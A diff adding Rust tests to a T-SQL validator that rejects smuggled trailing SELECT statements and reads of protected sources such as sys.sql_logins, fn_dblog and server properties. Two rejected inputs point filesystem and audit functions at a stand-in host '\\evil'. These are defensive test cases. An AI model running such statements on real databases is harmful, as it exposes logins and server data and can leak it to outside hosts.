@@ -101,6 +101,91 @@ fn nothing_hides_rows_from_the_limit() {
         "CREATE INDEX i ON DELETE FROM dbo.t",
         "CREATE VIEW dbo.v AS SELECT 1 AS a SELECT 2",
         "CREATE VIEW dbo.v AS DELETE FROM dbo.t",
+        "UPDATE dbo.Orders SET Changed = CURRENT_TIMESTAMP (SELECT 1)",
+        "UPDATE dbo.Orders SET Who = SYSTEM_USER ((SELECT 1))",
+        "UPDATE dbo.Orders SET Changed = {d '2024-01-01'} (SELECT 1)",
+        "UPDATE dbo.Orders SET a = b FROM dbo.t AS x ((SELECT 1))",
+        "INSERT INTO dbo.a (x) SELECT x FROM dbo.b ORDER BY x DESC (SELECT 1)",
+        "INSERT INTO dbo.a (x) SELECT x FROM dbo.b WHERE x IS NULL (SELECT 1)",
+        "INSERT INTO dbo.a (x) SELECT 1 apply (SELECT 1)",
+        "INSERT INTO dbo.a (x) SELECT 1 AS (SELECT 1)",
+        "INSERT TOP (5) t ((SELECT 1)) SELECT 2",
+        "INSERT TOP (5) dbo.t (SELECT 1) (SELECT 2)",
+        "UPDATE dbo.t SET a = 1 FROM dbo.t AS using (SELECT 1)",
+        "MERGE dbo.t AS t USING dbo.s AS s ON 1 = 1 WHEN MATCHED THEN DELETE OUTPUT deleted.id AS using (SELECT 1);",
+        "MERGE dbo.t AS t USING dbo.s AS using (SELECT 1) ON 1 = 1 WHEN MATCHED THEN DELETE;",
+        "MERGE dbo.t AS t USING (SELECT 1 AS id) (SELECT 2) AS s ON 1 = 1 WHEN MATCHED THEN DELETE;",
+    ] {
+        assert!(check(sql, &[]).is_err(), "{sql}");
+    }
+}
+
+/// What a reading statement may not call or read is not copied either.
+#[test]
+fn a_copy_shows_nothing_that_a_result_would_not() {
+    for (source, code) in [
+        (
+            "full_filesystem_path FROM sys.dm_os_enumerate_filesystem('\\\\evil\\s\\', '*')",
+            "function",
+        ),
+        ("query_sql_text FROM sys.query_store_query_text", "table"),
+        ("name FROM [SYS].[sql_logins]", "table"),
+        ("name FROM s\u{fd}s.sql_logins", "table"),
+        ("name FROM sys.sql_logins, (SELECT 1 AS a) AS sys", "table"),
+        (
+            "ROUTINE_DEFINITION FROM INFORMATION_SCHEMA.ROUTINES",
+            "table",
+        ),
+        ("name FROM sysusers", "table"),
+        ("name FROM dbo.t, dbo.sysprocesses", "table"),
+        (
+            "path FROM sys.fn_get_audit_file('\\\\evil\\s\\*', NULL, NULL)",
+            "function",
+        ),
+        ("x FROM fn_dblog(NULL, NULL)", "function"),
+        ("x FROM fn_dblog(NULL, NULL) AS l", "function"),
+        ("x FROM [fn_dblog](NULL, NULL) AS l (x)", "function"),
+        ("x FROM ::fn_dblog(NULL, NULL)", "function"),
+        ("x FROM dbo.t, fn_dblog(NULL, NULL) AS l", "function"),
+        (
+            "x FROM (fn_dblog(NULL, NULL) AS l CROSS JOIN dbo.t)",
+            "function",
+        ),
+        (
+            "x FROM dbo.t CROSS APPLY fn_dblog(NULL, NULL) AS l",
+            "function",
+        ),
+        ("TOP (1) x FROM fn_dblog(NULL, NULL)", "function"),
+        ("TOP (1) OBJECT_DEFINITION(5)", "function"),
+        ("SERVERPROPERTY('MachineName')", "function"),
+        (
+            "CASE WHEN LOGINPROPERTY('sa', 'IsLocked') = 1 THEN 1 END",
+            "function",
+        ),
+        (
+            "a FROM dbo.t JOIN dbo.u ON SESSION_CONTEXT(N'a') = t.a",
+            "function",
+        ),
+        ("@@SERVERNAME", "function"),
+        ("SUSER_NAME(value) FROM GENERATE_SERIES(1, 500)", "function"),
+        ("DB_NAME(value) FROM GENERATE_SERIES(1, 500)", "function"),
+    ] {
+        for sql in [
+            format!("INSERT INTO dbo.Notes (t) SELECT {source}"),
+            format!("CREATE VIEW dbo.v AS SELECT {source}"),
+        ] {
+            let denial = check(&sql, &[]).expect_err(&sql);
+            assert_eq!(denial.code, format!("{code}-not-allowed"), "{sql}");
+        }
+    }
+    for sql in [
+        "MERGE dbo.t AS t USING fn_dblog(NULL, NULL) AS s ON 1 = 1 WHEN MATCHED THEN DELETE;",
+        "UPDATE dbo.t SET a = @@SERVERNAME",
+        "UPDATE dbo.t SET a = APP_NAME() + HOST_NAME()",
+        "CREATE TABLE dbo.t (a AS SERVERPROPERTY('MachineName'))",
+        "ALTER TABLE dbo.t ADD a nvarchar(50) DEFAULT (SESSION_CONTEXT(N'a'))",
+        "CREATE SYNONYM dbo.s FOR sys.sql_logins",
+        "CREATE SYNONYM dbo.s FOR sysusers",
     ] {
         assert!(check(sql, &[]).is_err(), "{sql}");
     }
